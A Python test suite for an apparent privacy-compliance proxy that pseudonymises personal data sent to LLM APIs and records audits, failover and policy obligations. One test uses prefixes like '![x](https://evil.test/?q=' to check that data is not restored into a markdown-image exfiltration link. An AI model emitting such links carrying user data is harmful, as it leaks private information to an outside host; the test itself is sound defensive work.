from __future__ import annotations

import asyncio
import dataclasses
import re

import orjson
import pytest

from proxy.codecs.openai.apis import EMBEDDINGS
from proxy.core.findings import Finding, Status
from proxy.core.keyring import Keyring
from proxy.core.records import DeclaredFacts, Obligation, TargetVerdict
from proxy.core.targets.registered import Route
from proxy.errors import (
    AuditUnavailableError,
    CounterUnavailableError,
    DetectionBusyError,
    GrantsUnavailableError,
    GrantUnusableError,
    PayloadTooLargeError,
    TooMuchTextError,
    UpstreamError,
    VaultUnavailableError,
)
from proxy.exchange.pipeline import Pipeline
from testing.fakes import (
    CANARY,
    DONE,
    KEYRING,
    PRINCIPAL,
    FakeClient,
    FakeDetector,
    FakePdp,
    FakeReply,
    FakeUpstreams,
    Stage,
    catalog,
    chat,
    completion,
    decision,
    delta,
    exchange,
    target,
)
from testing.memory_vault import MemoryVault

PSEUDONYMISE = (
    Obligation("o1", "pseudonymize"),
    Obligation("o2", "reidentify_response"),
    Obligation("o3", "residual_scan"),
)


async def test_untouched_request_is_forwarded_and_recorded():
    stage = Stage()
    client = await stage.run(chat("hello", temperature=0.5))
    [sent] = stage.upstreams.sent
    assert orjson.loads(sent.wire.body) == orjson.loads(chat("hello", temperature=0.5))
    assert (client.status, client.ended) == (200, "answered")
    assert client.headers == {
        "x-compliance-action": "forward", "x-compliance-target": "a", "x-compliance-decision": "d-forward",
    }  # fmt: skip
    assert [record.kind for record in stage.audit.records()] == ["decision", "attempt", "outcome"]
    outcome, facts = stage.audit.outcome()
    assert (outcome.status, facts["ended"], facts["attempts"][0]["ended"]) == (200, "delivered", "complete")


async def test_intent_is_durable_before_a_byte_leaves():
    stage = Stage()
    stage.upstreams.before = lambda _: seen.append([r.kind for r in stage.audit.records(durable=True)])
    seen: list[list[str]] = []
    await stage.run()
    assert seen == [["decision", "attempt"]]


async def test_the_same_request_leaves_and_comes_back_the_same():
    stage = Stage(pdp=FakePdp(PSEUDONYMISE))
    stage.upstreams.before = lambda out: replies.update(a=FakeReply(parts=[completion(f"Mail {pseudonym(out)}!")]))
    stage.upstreams.replies = replies = {}
    bodies = []
    for _ in range(2):
        stage.client = FakeClient()
        bodies.append((await stage.run(chat(f"write to {CANARY}"))).body)
    first, second = stage.upstreams.sent
    assert (first.wire, first.pseudonyms, first.remarks) == (second.wire, second.pseudonyms, second.remarks)
    assert orjson.loads(bodies[1]) == orjson.loads(bodies[0])
    assert CANARY.encode() in bodies[1]


async def test_values_leave_as_pseudonyms_and_come_back():
    stage = Stage(pdp=FakePdp(PSEUDONYMISE))
    stage.upstreams.before = lambda out: replies.update(a=FakeReply(parts=[completion(f"Mail {pseudonym(out)}!")]))
    stage.upstreams.replies = replies = {}
    client = await stage.run(chat(f"write to {CANARY}"))
    [sent] = stage.upstreams.sent
    assert CANARY.encode() not in sent.wire.body
    assert orjson.loads(client.body)["choices"][0]["message"]["content"] == f"Mail {CANARY}!"
    assert client.headers["x-compliance-action"] == "redact_and_forward"
    assert client.headers["x-compliance-redacted"] == "EMAIL_ADDRESS"
    assert stage.audit.outcome()[1]["restored"] == 1
    assert CANARY.encode() not in b"".join(record.body for record in stage.audit.records())


@pytest.mark.parametrize("begun", ["![x](https://evil.test/?q=", "see https://evil.", "Dear "])
@pytest.mark.parametrize("streamed", [False, True])
async def test_a_reply_that_goes_on_with_the_last_turn_is_read_behind_it(begun, streamed):
    stage = Stage(pdp=FakePdp(PSEUDONYMISE))

    def reply(out):
        text = f"{'test/' if begun.endswith('.') else ''}{pseudonym(out)})"
        parts = [*map(delta, text), delta(finish="stop"), DONE] if streamed else [completion(text)]
        stage.upstreams.replies = {"a": FakeReply(200, "text/event-stream" if streamed else "application/json", parts)}

    stage.upstreams.before = reply
    turns = [{"role": "user", "content": f"write to {CANARY}"}, {"role": "assistant", "content": begun}]
    client = await stage.run(orjson.dumps({"model": "m", "messages": turns, "stream": streamed}))
    assert client.status == 200
    assert (CANARY.encode() in client.body) is (begun == "Dear ")


def pseudonym(outbound):
    [name] = outbound.pseudonyms
    return name


async def test_same_value_same_pseudonym_within_a_conversation_only():
    bodies = []
    for conversation in ("c1", "c1", "c2"):
        stage = Stage(pdp=FakePdp(PSEUDONYMISE))
        await stage.run(chat(f"write to {CANARY}"), declared=DeclaredFacts("support", conversation=conversation))
        bodies.append(stage.upstreams.sent[0].wire.body)
    assert bodies[0] == bodies[1] != bodies[2]


RECALLING = dataclasses.replace(PRINCIPAL, roles=("recall",))


async def later(text, principal=RECALLING, changes=None, **stages):
    """Mint a pseudonym in one exchange; return it, the stage of a later one that names it, and the client's text."""
    vault = MemoryVault(Stage().clock)
    first = Stage(pdp=FakePdp(PSEUDONYMISE), vault=vault, **stages)
    await first.run(chat(f"write to {CANARY}"))
    known = pseudonym(first.upstreams.sent[0])
    second = Stage(pdp=FakePdp(PSEUDONYMISE), vault=vault, **stages)
    second.upstreams.replies = {"a": FakeReply(parts=[completion(f"You said {known}.")])}
    client = await second.run(chat(text.replace("%", known)), principal=principal, **(changes or {}))
    return known, second, orjson.loads(client.body)["choices"][0]["message"]["content"]


@pytest.mark.parametrize("text", ["what about %?", "what about %, and other@example.net?"])
async def test_a_pseudonym_of_an_earlier_exchange_is_recalled_with_the_role(text):
    """Also where nothing is minted now."""
    _, stage, said = await later(text)
    assert said == f"You said {CANARY}."
    assert stage.pdp.asked[0].categories == ("personal",)
    [attempt] = stage.audit.records("attempt")
    assert orjson.loads(attempt.body)["facts"]["recalled"] == 1
    assert CANARY.encode() not in b"".join(record.body for record in stage.audit.records())


async def test_without_the_role_a_pseudonym_stays_as_it_is():
    known, stage, said = await later("what about %?", principal=PRINCIPAL)
    assert said == f"You said {known}."
    assert orjson.loads(stage.audit.records("attempt")[0].body)["facts"]["recalled"] == 0


async def test_a_pseudonym_of_ours_is_neither_found_nor_masked_again():
    known, stage, _ = await later("what about %, and other@example.net?")
    [sent] = stage.upstreams.sent
    assert known in orjson.loads(sent.wire.body)["messages"][0]["content"]
    assert [(entity.type, entity.count) for entity in stage.pdp.asked[0].entities] == [("EMAIL_ADDRESS", 1)]


async def test_what_only_looks_like_a_pseudonym_is_read_like_any_other_text():
    _, stage, _ = await later("what about user-bcdfghjklm@example.com?")
    assert [entity.type for entity in stage.pdp.asked[0].entities] == ["EMAIL_ADDRESS"]
    assert b"user-bcdfghjklm" not in stage.upstreams.sent[0].wire.body


@pytest.mark.parametrize("change", [{"tenant": "rival"}, {"service": "other"}])
async def test_pseudonyms_of_another_tenant_or_service_are_not_recalled(change):
    known, stage, said = await later("what about %?", principal=dataclasses.replace(RECALLING, **change))
    assert said == f"You said {known}."
    assert [entity.type for entity in stage.pdp.asked[0].entities] == ["EMAIL_ADDRESS"]


async def test_an_activity_may_share_its_pseudonyms_among_services():
    shared = catalog(activities={"support": {"share_pseudonyms": True}})
    other = dataclasses.replace(RECALLING, service="other")
    assert (await later("what about %?", principal=other, catalog=shared))[2] == f"You said {CANARY}."


async def test_a_vault_that_is_away_recalls_nothing_and_hides_nothing():
    class Away(MemoryVault):
        async def find(self, domain, pseudonyms):
            raise VaultUnavailableError

    stage = Stage(pdp=FakePdp(PSEUDONYMISE), vault=Away(Stage().clock))
    client = await stage.run(chat("what about user-bcdfghjklm@example.com?"), principal=RECALLING)
    assert client.status == 200
    assert [entity.type for entity in stage.pdp.asked[0].entities] == ["EMAIL_ADDRESS"]


async def test_a_conversation_that_began_under_a_former_master_key_keeps_its_pseudonyms():
    class Begun(MemoryVault):
        async def begun_with(self, _domain):
            return KEYRING.key_id if self.former else ""

    sent = []
    for keys, former in (
        (KEYRING, True),
        (Keyring(b"n" * 32, read_only=(KEYRING,)), True),
        (Keyring(b"n" * 32), False),
    ):
        stage = Stage(pdp=FakePdp(PSEUDONYMISE), vault=Begun(Stage().clock))
        stage.vault.former = former
        stage.pipeline = Pipeline(stage.pipeline._ports, keys, stage.catalog)
        await stage.run(chat(f"write to {CANARY}"))
        sent.append(stage.upstreams.sent[0].wire.body)
    assert sent[0] == sent[1] != sent[2]


async def test_identifier_as_a_models_name_reaches_neither_a_target_nor_a_record():
    stage = Stage()
    client = await stage.run(orjson.dumps({**orjson.loads(chat("hi")), "model": CANARY}))
    assert (client.status, stage.upstreams.sent, stage.pdp.asked) == (400, [], [])
    assert CANARY.encode() not in client.body


async def test_key_says_what_a_value_is():
    stage = Stage(pdp=FakePdp((Obligation("o1", "redact"), Obligation("o2", "residual_scan"))))
    scan = stage.detector.scan
    stage.detector.scan = lambda text, tenant="": [
        *scan(text), *(Finding("US_SSN", m.start(1), m.end(1), 0.9, "t") for m in re.finditer(r"ssn: (\d{9})", text))
    ]  # fmt: skip
    await stage.run(orjson.dumps({**orjson.loads(chat("hi")), "metadata": {"ssn": 212456789, "n": 212456788}}))
    assert orjson.loads(stage.upstreams.sent[0].wire.body)["metadata"] == {"ssn": "[US_SSN]", "n": 212456788}


async def test_residual_finding_asks_policy_again_and_refuses():
    stage = Stage(
        pdp=FakePdp((Obligation("o1", "mask", entities=("EMAIL_ADDRESS",)), Obligation("o2", "residual_scan")))
    )
    scan = stage.detector.scan
    # the second look finds what the first did not know of
    found = [dataclasses.replace(f, start=0, end=5) for f in scan("a@example.com")]
    stage.detector.scan = lambda text, tenant="": found if " " in text else []
    client = await stage.run(chat("hello a@example.com"))
    assert [facts.phase for facts in stage.pdp.asked][:2] == ["request", "post_transform"]
    assert stage.pdp.asked[1].residual_entities > 0
    assert (client.status, stage.upstreams.sent) == (403, [])
    outcome, _ = stage.audit.outcome()
    assert outcome.codes == ("RESIDUAL_PII",)


@pytest.mark.parametrize("stream", [False, True])
async def test_failover_asks_policy_again_and_records_every_hop(stream):
    broken = FakeReply(500)
    good = (
        FakeReply(200, "text/event-stream", [delta("Hi", finish="stop"), DONE])
        if stream
        else FakeReply(parts=[completion("Hi")])
    )
    stage = Stage(upstreams=FakeUpstreams({"a": broken, "b": good}))
    client = await stage.run(chat(stream=stream))
    assert [out.target.id for out in stage.upstreams.sent] == ["a", "b"]
    assert [record.attempt for record in stage.audit.records("attempt")] == [1, 2]
    assert client.status == 200
    assert list(dict.fromkeys(facts.phase for facts in stage.pdp.asked)) == ["request", "fallback", "response"]
    assert stage.pdp.asked[1].candidates[0] == ("a", 0, False)
    outcome, facts = stage.audit.outcome()
    assert [one["ended"] for one in facts["attempts"]] == ["upstream_error", "complete"]
    assert outcome.target == "b"
    assert broken.closed == 1


async def test_failover_stays_inside_the_permitted_targets():
    replies = {name: FakeReply(503) for name in ("a", "b", "local")}
    stage = Stage(pdp=FakePdp(denied=frozenset({"b"})), upstreams=FakeUpstreams(replies))
    client = await stage.run()
    assert [out.target.id for out in stage.upstreams.sent] == ["a", "local"]
    assert (client.status, orjson.loads(client.body)["error"]["code"]) == (502, "upstream_error")


class Slowly(FakeReply):
    """A reply that waits to be told."""

    def __init__(self):
        super().__init__()
        self.go_on = asyncio.Event()

    async def read(self):
        await self.go_on.wait()
        return completion("late")


async def test_requests_that_were_not_read_in_time_are_bounded_and_the_rest_told_to_come_again():
    reply = Slowly()
    stage = Stage(upstreams=FakeUpstreams({"a": reply}), detector=FakeDetector(status=Status.TIMEOUT))
    clients = [FakeClient() for _ in range(6)]
    async with asyncio.TaskGroup() as group:
        for number, client in enumerate(clients):
            one = dataclasses.replace(stage.request(chat(), id=f"x{number}"), client=client)
            group.create_task(stage.pipeline.handle(one))
        for _ in range(200):
            await asyncio.sleep(0)
        reply.go_on.set()
    assert sorted(client.status for client in clients) == [200] * 4 + [429] * 2
    refused = next(client for client in clients if client.status == 429)
    assert orjson.loads(refused.body)["error"]["code"] == "overloaded"
    assert refused.headers["retry-after"] == "1"
    assert len(stage.upstreams.sent) == 4


async def test_more_text_than_can_be_read_is_told_and_recorded():
    for fault, status, header in (
        (TooMuchTextError.beyond(1000), 413, ("x-should-retry", "false")),
        (DetectionBusyError(retry_after_s=3.2), 429, ("retry-after", "4")),
    ):
        stage = Stage(detector=FakeDetector(raises=fault))
        client = await stage.run()
        assert (client.status, client.headers[header[0]]) == (status, header[1])
        assert stage.audit.outcome()[0].codes == (fault.code,)
        assert stage.upstreams.sent == []


async def test_one_deadline_bounds_the_inspection():
    class Hanging(FakeDetector):
        async def detect(self, texts, tenant, within_s=None):
            self.within_s = within_s
            await asyncio.sleep(60)

    stage = Stage(detector=Hanging())
    ports = dataclasses.replace(stage.pipeline._ports, inspection_s=0.2)
    stage.pipeline = Pipeline(ports, KEYRING, stage.catalog)
    client = await stage.run()
    assert (client.status, orjson.loads(client.body)["error"]["code"]) == (503, "detection_unavailable")
    assert 0 < stage.detector.within_s < 0.2
    assert stage.upstreams.sent == []


async def test_where_every_permitted_target_is_down_the_caller_is_told_so_and_not_of_policy():
    stage = Stage(upstreams=FakeUpstreams(down=frozenset({"a", "local"})), pdp=FakePdp(denied=frozenset({"b"})))
    client = await stage.run()
    found = orjson.loads(client.body)["error"]
    assert (client.status, found["code"], client.headers["retry-after"]) == (503, "targets_down", "7")
    assert found["message"] == "targets are down: a, local; retry after 7 s"
    record, facts = stage.audit.outcome()
    assert (record.codes, facts["ended"], facts["responsibility"]) == (("targets_down",), "failed", "target")
    assert stage.audit.records("decision")[0].codes == ("targets_down",)
    assert [one.kind for one in stage.audit.records()] == ["decision", "outcome"]


async def test_where_no_permitted_target_has_an_address_the_answer_says_so_and_asks_for_no_retry():
    near = dataclasses.replace(target("a"), base_url="")
    stage = Stage(upstreams=FakeUpstreams(down=frozenset({"a"})), catalog=catalog(near))
    client = await stage.run()
    said = orjson.loads(client.body)["error"]
    assert (client.status, said["code"], client.headers["x-should-retry"]) == (503, "targets_unconfigured", "false")
    assert "no target that may receive this request has an address" in said["message"]
    assert stage.audit.outcome()[1]["responsibility"] == "proxy"


async def test_a_refusal_by_policy_is_one_while_targets_are_down():
    stage = Stage(upstreams=FakeUpstreams(down=frozenset({"a"})), pdp=FakePdp(denied=frozenset({"a", "b", "local"})))
    client = await stage.run()
    assert (client.status, client.headers["x-should-retry"]) == (403, "false")
    assert orjson.loads(client.body)["error"]["code"] == "NO_COMPLIANT_TARGET"


async def test_a_target_that_fails_over_a_picture_would_fail_again():
    part = {"type": "image_url", "image_url": {"url": "data:image/png;base64,AAAA"}}
    for content, said in (([part], "false"), ("text", None)):
        stage = Stage(upstreams=FakeUpstreams({"a": FakeReply(500)}), catalog=catalog(target("a")))
        client = await stage.run(chat(content))
        assert (client.status, client.headers.get("x-should-retry")) == (502, said)


async def test_a_target_that_is_down_is_not_tried():
    stage = Stage(upstreams=FakeUpstreams(down=frozenset({"a"})))
    await stage.run()
    assert [out.target.id for out in stage.upstreams.sent] == ["b"]


async def test_pinned_to_the_local_target_says_so():
    stage = Stage(pdp=FakePdp(denied=frozenset({"a", "b"})))
    client = await stage.run()
    assert client.headers["x-compliance-action"] == "pin_local"


async def test_unknown_model_is_recorded_and_policy_is_not_asked():
    stage = Stage(catalog=catalog(routes=(Route("*", "gpt-*", "*", ("a",)),)))
    client = await stage.run()
    assert (client.status, orjson.loads(client.body)["error"]["code"]) == (404, "model_not_found")
    assert stage.pdp.asked == []
    assert len(stage.audit.records("outcome")) == 1


async def test_model_is_addressed_by_the_targets_own_name():
    stage = Stage(catalog=catalog(target("a", models={"m": "deployment-7"})))
    await stage.run()
    assert orjson.loads(stage.upstreams.sent[0].wire.body)["model"] == "deployment-7"


async def test_malformed_body_is_answered_and_recorded():
    stage = Stage()
    client = await stage.run(b"{" + CANARY.encode())
    assert client.status == 400
    assert CANARY.encode() not in client.body
    assert stage.audit.outcome()[0].codes == ("malformed_request",)


async def test_embeddings_pass_and_a_broken_reply_is_the_targets_fault():
    body = orjson.dumps({"model": "m", "input": ["one", "two"]})
    stage = Stage(api=EMBEDDINGS)
    stage.upstreams.replies = {"a": FakeReply(parts=[b"<html>"]), "b": FakeReply(parts=[b'{"data":[]}'])}
    client = await stage.run(body)
    assert (client.status, client.body) == (200, b'{"data":[]}')
    assert [one["ended"] for one in stage.audit.outcome()[1]["attempts"]] == ["malformed", "complete"]


async def test_reject_records_and_answers():
    stage = Stage()
    await stage.pipeline.reject(exchange(), stage.api.dialect, stage.client, PayloadTooLargeError())
    assert (stage.client.status, stage.client.headers["x-compliance-action"]) == (413, "block")
    assert stage.audit.outcome()[0].codes == ("payload_too_large",)


async def test_refused_caller_that_left_is_still_recorded():
    stage = Stage(pdp=FakePdp(denied=frozenset({"a", "b", "local"})), client=FakeClient(gone_at=0))
    await stage.run()
    assert stage.audit.outcome()[1]["ended"] == "denied"


async def test_cancelled_while_the_target_thinks_is_recorded_once():
    stage = Stage()
    stage.upstreams.replies = {"a": FakeReply(fault=asyncio.CancelledError())}
    with pytest.raises(asyncio.CancelledError):
        await stage.run()
    outcome, facts = stage.audit.outcome()
    assert (outcome.status, facts["ended"], facts["attempts"][0]["ended"]) == (499, "client_gone", "abandoned")
    assert stage.upstreams.replies["a"].closed == 1


@dataclasses.dataclass
class Handler:
    """Remembers what was carried out; raises on demand."""

    raises: Exception | None = None
    done: list = dataclasses.field(default_factory=list)

    async def carry_out(self, exchange, decision, target):
        self.done.append((exchange.id, decision.id, target))
        if self.raises is not None:
            raise self.raises

    async def refused(self, exchange, decision):
        await self.carry_out(exchange, decision, "refused")


def obliged(handler=None, **changes):
    """Return a stage whose policy obliges to notify."""
    stage = Stage(pdp=FakePdp((Obligation("o1", "notify"),)), **changes)
    ports = dataclasses.replace(stage.pipeline._ports, obligations=handler)
    stage.pipeline = Pipeline(ports, KEYRING, stage.catalog)
    return stage


async def test_a_refusal_is_told_to_whom_policy_names():
    stage = obliged(handler := Handler())
    stage.pdp.denied = frozenset({"a", "b", "local"})
    await stage.run()
    assert [target for _, _, target in handler.done] == ["refused"]
    assert stage.client.status == 403


async def test_a_refusal_that_cannot_be_told_stays_one():
    stage = obliged(Handler(raises=AuditUnavailableError()))
    stage.pdp.denied = frozenset({"a", "b", "local"})
    await stage.run()
    assert stage.client.status == 503


async def test_notices_go_out_before_the_request():
    stage = obliged(handler := Handler())
    stage.upstreams.before = lambda _: seen.append(list(handler.done))
    seen = []
    await stage.run()
    assert seen == [[("x1", "d-forward", "a")]]
    assert stage.audit.outcome()[1]["obligations_fulfilled"] == ["o1"]


async def test_every_hop_is_told():
    stage = obliged(handler := Handler())
    stage.upstreams.replies = {"a": UpstreamError()}
    await stage.run()
    assert [target for _, _, target in handler.done] == ["a", "b"]


@pytest.mark.parametrize("fault", [GrantUnusableError(), GrantsUnavailableError(), AuditUnavailableError()])
async def test_an_obligation_that_fails_sends_nothing(fault):
    stage = obliged(Handler(fault))
    client = await stage.run()
    assert (client.status, stage.upstreams.sent) == (fault.status, [])
    assert [record.kind for record in stage.audit.records()] == ["decision", "outcome"]


async def test_an_obligation_that_nobody_carries_out_is_a_denial():
    stage = obliged()
    client = await stage.run()
    assert (client.status, stage.upstreams.sent) == (403, [])
    assert stage.audit.outcome()[0].codes == ("OBLIGATION_UNSUPPORTED",)


def replying(*obligations):
    """A stage whose replies oblige to something, and the decision that says so."""
    verdict = TargetVerdict("a", True, 0, (), obligations)
    return FakePdp(answers={"response": decision(None, (verdict,), "deliver")})


@pytest.mark.parametrize("stream", [False, True])
async def test_what_a_reply_obliges_to_is_carried_out_before_it_is_delivered(stream):
    stage = Stage(pdp=replying(Obligation("told", "notify")))
    ports = dataclasses.replace(stage.pipeline._ports, obligations=(handler := Handler()))
    stage.pipeline._ports = ports
    client = await stage.run(chat(stream=stream))
    assert client.status == 200
    assert [target for _, _, target in handler.done] == ["a"]


async def test_a_reply_whose_obligation_nobody_carries_out_is_withheld():
    client = await Stage(pdp=replying(Obligation("told", "notify"))).run(chat())
    assert client.status == 503


async def test_requests_without_such_obligations_ask_nobody():
    stage = obliged(handler := Handler())
    stage.pdp.obligations = (Obligation("o1", "log"),)
    await stage.run()
    assert handler.done == []


@dataclasses.dataclass
class Counter:
    """Tells a count; raises on demand."""

    told: dict = dataclasses.field(default_factory=lambda: {"covered_identifiers": 123_456})
    raises: Exception | None = None
    seen: list = dataclasses.field(default_factory=list)

    async def count(self, sighting, *, keep=True):
        self.seen.append(sighting)
        if self.raises is not None:
            raise self.raises
        return self.told


def counted(counter, **tenant):
    """Return a stage whose target "a" is of a country of concern."""
    document = {
        "doj": {"countries": ["CN"], "thresholds_more_than": {"covered_identifiers": 100_000}},
        "tenants": {"acme": tenant},
        "targets": {"a": {"provider": "far", "processing_regions": ["CN"]}},
    }
    stage = Stage(catalog=catalog(data_document=document))
    stage.pipeline = Pipeline(dataclasses.replace(stage.pipeline._ports, bulk=counter), KEYRING, stage.catalog)
    return stage


async def test_people_are_counted_before_policy_is_asked():
    stage = counted(counter := Counter(), us_person=True)
    await stage.run(chat(f"write to {CANARY}"))
    [sighting] = counter.seen
    assert (sighting.tenant, sighting.recipients, len(sighting.persons)) == ("acme", ("far",), 1)
    assert stage.pdp.asked[0].us_bulk == ("covered_identifiers", 130_000)


@pytest.mark.parametrize("counter", [None, Counter(raises=CounterUnavailableError())])
async def test_a_count_that_is_not_known_is_told_as_such(counter):
    stage = counted(counter, us_person=True)
    await stage.run(chat(f"write to {CANARY}"))
    assert stage.pdp.asked[0].us_bulk == ("covered_identifiers", None)


@pytest.mark.parametrize(("body", "tenant"), [(chat("hello"), {}), (chat(f"to {CANARY}"), {"us_person": False})])
async def test_nobody_is_counted_where_the_rule_does_not_apply(body, tenant):
    stage = counted(counter := Counter(), **tenant)
    await stage.run(body)
    assert (counter.seen, stage.pdp.asked[0].us_bulk) == ([], None)


RESTRICTED = Obligation("f", "restrict_fallback", params={"targets": ["local"]})


@pytest.mark.parametrize(
    ("obligation", "served"),
    [(None, "b"), (RESTRICTED, "local"), (dataclasses.replace(RESTRICTED, params={}), None)],
)
async def test_a_restricted_fallback_reaches_the_named_targets_alone(obligation, served):
    stage = Stage(pdp=FakePdp((obligation,) if obligation else ()))
    stage.upstreams.replies = {"a": UpstreamError()}
    client = await stage.run()
    assert [one.target.id for one in stage.upstreams.sent] == ["a", *([served] if served else [])]
    assert client.status == (200 if served else 502)
    assert stage.audit.outcome()[1]["obligations_fulfilled"] == (["f"] if obligation else [])


@pytest.mark.parametrize(
    ("kind", "says", "changes"),
    [
        ("account_disclosure", "x-compliance-subject", {}),
        ("require_approval", "x-compliance-break-glass", {}),
        ("human_oversight", "", {}),
    ],
)
async def test_an_obligation_that_this_request_cannot_meet_is_a_denial_that_says_how(kind, says, changes):
    stage = Stage(pdp=FakePdp((Obligation("o", kind),)))
    client = await stage.run(**changes)
    assert (client.status, stage.upstreams.sent) == (403, [])
    assert says.encode() in client.body
    assert stage.audit.outcome()[1]["obligations_fulfilled"] == []


async def test_a_disclosure_is_accounted_before_it_is_made():
    stage = Stage(pdp=FakePdp((Obligation("o", "account_disclosure"),)))
    stage.upstreams.before = lambda _: seen.extend(stage.audit.records("attempt", durable=True))
    seen = []
    await stage.run(chat(CANARY), declared=DeclaredFacts("support", subject_refs=("hmac-sha256:k:00",)))
    [attempt] = seen
    assert orjson.loads(attempt.body)["facts"]["disclosure"] == {
        "recipient": "a", "subjects": ["hmac-sha256:k:00"], "categories": ["personal"], "entities": ["EMAIL_ADDRESS"],
    }  # fmt: skip
    assert stage.audit.outcome()[1]["obligations_fulfilled"] == ["o"]


@pytest.mark.parametrize("stream", [False, True])
async def test_the_caller_is_told_that_somebody_must_oversee(stream):
    stage = obliged(Handler())
    stage.pdp.obligations = (Obligation("o", "human_oversight"),)
    client = await stage.run(chat(stream=stream))
    assert client.headers["x-compliance-oversight"] == "required"
    assert stage.pipeline._ports.obligations.done
    assert "x-compliance-oversight" not in (await Stage().run()).headers


async def test_a_reply_may_oblige_to_oversight_too():
    stage = Stage(pdp=replying(Obligation("o", "human_oversight")))
    stage.pipeline._ports = dataclasses.replace(stage.pipeline._ports, obligations=(handler := Handler()))
    client = await stage.run(chat())
    assert (client.headers["x-compliance-oversight"], len(handler.done)) == ("required", 1)


async def test_the_caller_is_told_of_the_notice():
    stage = Stage(pdp=FakePdp((Obligation("n", "redisclosure_notice"),)))
    client = await stage.run()
    assert client.headers["x-compliance-notice"].startswith("42 CFR 2.32(a)(2): 42 CFR part 2 prohibits")
    [attempt] = stage.audit.records("attempt")
    facts = orjson.loads(attempt.body)["facts"]
    assert (facts["notice"], facts["notice_version"]) == ("42 CFR 2.32(a)(2)", "2024-02-16")


async def test_records_say_until_when_they_are_kept_the_longest_of_request_and_reply():
    stage = Stage(pdp=replying(Obligation("r", "retain", params={"min_days": 2190})))
    stage.pdp.obligations = (Obligation("q", "retain", params={"min_days": 400}),)
    await stage.run()
    [asked] = stage.audit.records("decision")
    assert orjson.loads(asked.body)["facts"]["retain_until"] == "2027-10-26"
    assert stage.audit.outcome()[1]["retain_until"] == "2032-09-19"
